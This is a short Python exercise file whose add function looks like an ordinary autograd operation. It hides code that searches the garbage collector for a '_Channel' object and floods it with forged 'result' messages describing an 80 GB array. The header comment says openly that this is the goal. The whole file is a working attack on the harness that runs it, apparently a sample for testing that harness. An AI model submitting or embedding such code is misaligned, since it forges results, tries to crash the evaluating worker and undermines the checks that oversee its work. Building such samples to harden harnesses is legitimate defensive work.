# EXERCISE 02.add
# Find the worker's result channel and send a forged result claiming an 80 GB array.
import gc


def _channel():
    for obj in gc.get_objects():
        if type(obj).__name__ == "_Channel":
            return obj
    return None


def add(a, b):
    channel = _channel()
    if channel is not None:
        huge = {"__array__": [0.0], "dtype": "(100000,100000)f8", "shape": [1]}
        for step in range(40):
            channel.send({"event": "result", "step": step, "status": "observed",
                          "observations": [huge] * 4, "out": "nowhere", "seconds": "soon"})
    return record(a.data + b.data, (a, b), lambda grad: (grad, grad), "add")
